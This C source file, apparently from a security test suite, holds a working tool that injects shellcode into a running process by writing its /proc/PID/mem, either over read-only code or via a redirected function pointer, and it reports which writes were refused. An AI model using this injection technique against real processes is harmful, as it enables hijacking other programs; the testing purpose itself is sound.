// SPDX-License-Identifier: GPL-2.0
/*
 * Injects code into a running process by writing its /proc/PID/mem: over its
 * own code, where the kernel lets anyone force read-only memory; or to where
 * the process may write and execute, and then the code's address into a
 * function pointer that the process calls.
 *
 *	proc_mem_inject [--via pid|task|inherited] [--procfs DIR]
 *			PID CODE-ADDRESS [POINTER-ADDRESS]
 *
 * victim prints the addresses, as text, anonymous-exec and pointer.
 * --via says how the file is reached: by the process, by its thread, or by a
 * descriptor that a child has inherited, which then does the writing.
 * --procfs names another mount of procfs than /proc.
 */
#include "arch.h"
#include "common.h"

#include <fcntl.h>
#include <getopt.h>
#include <sys/wait.h>

enum via { VIA_PID, VIA_TASK, VIA_INHERITED };

static const char *const vias[] = { "pid", "task", "inherited", NULL };

static int open_mem(const char *procfs, pid_t pid, enum via via)
{
	char path[4096];
	int fd;

	if (via == VIA_TASK)
		snprintf(path, sizeof(path), "%s/%d/task/%d/mem", procfs, pid,
			 pid);
	else
		snprintf(path, sizeof(path), "%s/%d/mem", procfs, pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		err(1, "%s", path);
	return fd;
}

/* What to write where. */
struct aim {
	pid_t pid;
	unsigned long to_code;
	unsigned long to_pointer; /* 0: the code itself is enough */
};

/* What was refused is a fact too. */
static int inject(int fd, const struct aim *aim)
{
	unsigned char code[SHELLCODE_MAX];
	int count, wanted = aim->to_pointer ? 2 : 1;
	size_t size, bytes = 0;
	char message[64];
	ssize_t written;

	pwned_message(sizeof(message), message);
	size = shellcode_build(code, message, 0);

	const struct {
		const void *from;
		size_t size;
		unsigned long to;
	} writes[] = {
		{ code, size, aim->to_code },
		{ &aim->to_code, sizeof(aim->to_code), aim->to_pointer },
	};

	for (count = 0; count < wanted; count++) {
		/* an address may be more than a 32-bit off_t can hold */
		written = pwrite64(fd, writes[count].from, writes[count].size,
				   writes[count].to);
		if (written < 0) {
			warn("write at %#lx", writes[count].to);
			break;
		}
		bytes += written;
	}

	printf("proc_mem_inject pid=%d target=%d address=%#lx length=%zu count=%d bytes=%zu\n",
	       getpid(), aim->pid, aim->to_code, size, count, bytes);
	return count < wanted;
}

int main(int argc, char **argv)
{
	static const struct option options[] = {
		{ "via", required_argument, NULL, 'v' },
		{ "procfs", required_argument, NULL, 'p' },
		{ 0 },
	};
	const char *procfs = "/proc";
	enum via via = VIA_PID;
	struct aim aim = { 0 };
	int option, status, fd;
	pid_t child;

	while ((option = getopt_long(argc, argv, "", options, NULL)) != -1) {
		if (option == 'v')
			via = parse_word("--via", optarg, vias);
		else if (option == 'p')
			procfs = optarg;
		else
			return 2;
	}
	if (optind + 2 != argc && optind + 3 != argc)
		errx(2,
		     "usage: %s [options] PID CODE-ADDRESS [POINTER-ADDRESS]",
		     argv[0]);
	aim.pid = parse_number("PID", argv[optind]);
	aim.to_code = parse_number("CODE-ADDRESS", argv[optind + 1]);
	if (argv[optind + 2])
		aim.to_pointer =
			parse_number("POINTER-ADDRESS", argv[optind + 2]);

	fd = open_mem(procfs, aim.pid, via);
	if (via != VIA_INHERITED)
		return inject(fd, &aim);

	child = fork();
	if (child < 0)
		err(1, "fork");
	if (!child)
		return inject(fd, &aim);
	if (waitpid(child, &status, 0) != child || !WIFEXITED(status))
		errx(1, "the child did not come back");
	return WEXITSTATUS(status);
}
